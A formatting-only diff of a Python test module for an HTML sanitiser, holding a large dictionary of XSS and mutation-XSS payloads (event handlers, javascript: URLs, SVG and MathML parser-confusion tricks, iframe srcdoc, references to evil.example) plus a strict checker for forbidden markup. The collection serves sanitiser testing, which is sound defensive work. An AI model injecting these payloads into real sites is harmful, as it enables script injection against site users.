@@ -1,8 +1,8 @@
 """XSS payloads, and a strict parser that finds forbidden markup.
 
-Each of PAYLOADS calls `pwned()` or requests a resource from another host, in a browser that receives it
-unchanged or after a mistake of a sanitiser. `faults` shares no code with the sanitiser: it checks the rule
-(docs/decisions.md #11), not the implementation.
+Each of PAYLOADS calls `pwned()` or requests a resource from another host, in a browser that
+receives it unchanged or after a mistake of a sanitiser. `faults` shares no code with the sanitiser:
+it checks the rule (docs/decisions.md #11), not the implementation.
 """
 
 import re
@@ -38,7 +38,7 @@ PAYLOADS: dict[str, str] = {
     "a-onclick-after-href": "<a href='https://x.example'onclick=pwned()>x</a>",
     "a-attribute-breakout": "<a href='https://x.example/\"onfocus=pwned() autofocus x=\"'>x</a>",
     "a-attribute-breakout-entities": '<a href="https://x.example/&quot; '
-        'autofocus onfocus=&quot;pwned()">x</a>',
+    'autofocus onfocus=&quot;pwned()">x</a>',
     "autofocus-textarea": "<textarea autofocus onfocus=pwned()></textarea>",
     "video": "<video><source onerror=pwned() src=x></video>",
     "audio": "<audio src=x onerror=pwned() autoplay></audio>",
@@ -60,16 +60,18 @@ PAYLOADS: dict[str, str] = {
     "href-relative": "<a href=../../admin/logout/>x</a>",
     "href-direction": "<a href='https://evil.example/\u202egpj.exe'>\u202ex</a>",
     "a-target-ping": "<a href=https://x.example target=opener "
-        "ping=//evil.example/ping download rel=opener>x</a>",
+    "ping=//evil.example/ping download rel=opener>x</a>",
     "a-xlink": "<a xlink:href=javascript:pwned() xml:base=javascript:pwned()//>x</a>",
     "blockquote-cite": "<blockquote cite=javascript:pwned()>x</blockquote>",
-    "table-background": "<table background=//evil.example/b.png><td background=javascript:pwned()>x</table>",
+    "table-background": (
+        "<table background=//evil.example/b.png><td background=javascript:pwned()>x</table>"
+    ),
     # --- frames, objects, the page itself ---
     "iframe": "<iframe src=javascript:pwned()></iframe>",
     "iframe-srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
     "iframe-data": "<iframe src='data:text/html,<script>parent.pwned()</script>'></iframe>",
     "object": "<object data=javascript:pwned() onerror=pwned()>"
-        "<param name=src value=javascript:pwned()></object>",
+    "<param name=src value=javascript:pwned()></object>",
     "embed": "<embed src=//evil.example/x.swf allowscriptaccess=always onload=pwned()>",
     "base": "<base href=//evil.example/><a href=x>x</a>",
     "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
@@ -84,35 +86,47 @@ PAYLOADS: dict[str, str] = {
     "svg-script": "<svg><script>pwned()</script></svg>",
     "svg-script-cdata": "<svg><script><![CDATA[pwned()]]></script></svg>",
     "svg-a": "<svg><a xlink:href=javascript:pwned()><text x=20 y=20>x</text></a></svg>",
-    "svg-animate": "<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>",
-    "svg-set": "<svg><a><set attributeName=xlink:href to=javascript:pwned() /><text>x</text></a></svg>",
+    "svg-animate": (
+        "<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>"
+    ),
+    "svg-set": (
+        "<svg><a><set attributeName=xlink:href to=javascript:pwned() /><text>x</text></a></svg>"
+    ),
     "svg-foreign-object": "<svg><foreignObject><iframe src=javascript:pwned()>"
-        "</iframe></foreignObject></svg>",
+    "</iframe></foreignObject></svg>",
     "svg-style": "<svg><style>*{background:url(//evil.example/b.png)}</style></svg>",
     "math-href": "<math href=javascript:pwned()><mtext>x</mtext></math>",
     # --- what is harmless until it is parsed a second time ---
     "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
     "mxss-style": '<style><p title="</style><img src=x onerror=pwned()>">',
     "mxss-svg-style": '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
-    "mxss-math-style": '<math></p><style><!--</style><img src/onerror=pwned()>',
+    "mxss-math-style": "<math></p><style><!--</style><img src/onerror=pwned()>",
     "mxss-mglyph": "<math><mtext><table><mglyph><style><!--</style><img "
-        "title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
+    "title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
     "mxss-mglyph-form": "<form><math><mtext></form><form><mglyph>"
-        "<style></math><img src onerror=pwned()></style></mglyph></form>",
-    "mxss-malignmark": "<math><mtext><table><malignmark><style><![CDATA[</style><img src onerror=pwned()>]]>",
+    "<style></math><img src onerror=pwned()></style></mglyph></form>",
+    "mxss-malignmark": (
+        "<math><mtext><table><malignmark><style><![CDATA[</style><img src onerror=pwned()>]]>"
+    ),
     "mxss-annotation": "<math><annotation-xml encoding='text/html'>"
-        "<style><img src onerror=pwned()></style></annotation-xml></math>",
-    "mxss-desc-title": "<svg><desc><title><style></title><img src onerror=pwned()></style></desc></svg>",
+    "<style><img src onerror=pwned()></style></annotation-xml></math>",
+    "mxss-desc-title": (
+        "<svg><desc><title><style></title><img src onerror=pwned()></style></desc></svg>"
+    ),
     "mxss-template": "<template><p title='</template><img src=x onerror=pwned()>'></template>",
-    "mxss-shadow-root": "<p><template shadowrootmode=open><img src=x onerror=pwned()></template></p>",
+    "mxss-shadow-root": (
+        "<p><template shadowrootmode=open><img src=x onerror=pwned()></template></p>"
+    ),
     "mxss-form-nesting": "<form><div></form><form><svg><style></form>"
-        "<img src=x onerror=pwned()></style></svg></form>",
+    "<img src=x onerror=pwned()></style></svg></form>",
     "mxss-table": "<table><td><a href='</td></table><img src=x onerror=pwned()>'>x</table>",
     "mxss-foster-parent": "<table><a href=javascript:pwned()>x</a><script>pwned()</script><tr><td>y</table>",
-    "mxss-foster-select": "<select><template><table><img src=x onerror=pwned()></table></template></select>",
+    "mxss-foster-select": (
+        "<select><template><table><img src=x onerror=pwned()></table></template></select>"
+    ),
     "mxss-select": "<select><style></select><img src=x onerror=pwned()></style></select>",
     "mxss-caption": "<table><caption><svg><title><table><caption>"
-        "</caption></table><img src onerror=pwned()></title>",
+    "</caption></table><img src onerror=pwned()></title>",
     "mxss-p-in-a": "<a href=https://x.example><table><a href=javascript:pwned()>x</a></table></a>",
     "mxss-adoption": "<a href=javascript:pwned()><p><a><b><p></a><img src=x onerror=pwned()></b>",
     "mxss-textarea": "<textarea><p title='</textarea><img src=x onerror=pwned()>'></textarea>",
@@ -121,7 +135,9 @@ PAYLOADS: dict[str, str] = {
     "mxss-iframe": "<iframe><p title='</iframe><img src=x onerror=pwned()>'></iframe>",
     "mxss-listing": "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
     "mxss-plaintext": "<plaintext><img src=x onerror=pwned()></plaintext>",
-    "mxss-deep": "<b>" * _DEEP + "<svg><style><img src=x onerror=pwned()></style></svg>" + "</b>" * _DEEP,
+    "mxss-deep": "<b>" * _DEEP
+    + "<svg><style><img src=x onerror=pwned()></style></svg>"
+    + "</b>" * _DEEP,
     "mxss-deep-blocks": (
         "<blockquote>" * _DEEP + "<table><a href=javascript:pwned()>x" + "</blockquote>" * _DEEP
     ),
@@ -134,21 +150,25 @@ PAYLOADS: dict[str, str] = {
     "comment-downlevel": "<![if !IE]><script>pwned()</script><![endif]>",
     "cdata": "<![CDATA[<img src=x onerror=pwned()>]]>",
     "cdata-broken": "<![CDATA[><img src=x onerror=pwned()>]]>",
-    "processing": "<?xml-stylesheet href='javascript:pwned()'?><?php ><img src=x onerror=pwned()> ?>",
+    "processing": (
+        "<?xml-stylesheet href='javascript:pwned()'?><?php ><img src=x onerror=pwned()> ?>"
+    ),
     "doctype": "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=pwned()>'>]>&x;",
     "broken-tag": "<p<img src=x onerror=pwned()>",
-    "broken-end-tag": "</p onclick=pwned()><//img src=x onerror=pwned()></ img src=x onerror=pwned()>",
+    "broken-end-tag": (
+        "</p onclick=pwned()><//img src=x onerror=pwned()></ img src=x onerror=pwned()>"
+    ),
     "broken-quotes": '<img """><script>pwned()</script>">',
     "broken-equals": "<p =onclick=pwned() =><img = src=x =  onerror=pwned()>",
     "broken-angle": "<a href=https://x.example/<img/src=x/onerror=pwned()>x</a>",
     "wrapper-in-attribute": "<a href='https://x.example/</div >\" onclick=pwned()'>x</a>",
     "double-encoded": "&lt;img src=x onerror=pwned()&gt; "
-        "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
+    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
     "entities-without-end": "&ltscript&gtpwned()&lt/script&gt",
     # --- clobbering, templates of frameworks ---
     "framework-attributes": "<p x-data x-init=pwned() v-html=pwned() ng-app "
-        "ng-init=pwned() hx-on:load=pwned()>x</p>",
-}  # fmt: skip
+    "ng-init=pwned() hx-on:load=pwned()>x</p>",
+}
 
 
 def faults(html: str) -> list[str]:
@@ -205,5 +225,7 @@ class _Reader(HTMLParser):
 
 
 def as_browsers_read(address: str) -> str:
-    """Return `address` in lower case, without the characters that browsers ignore before a scheme."""
+    """Return `address` in lower case, without the characters that browsers
+    ignore before a scheme.
+    """
     return re.sub("[\t\n\r]", "", address).lstrip("".join(map(chr, range(33)))).lower()
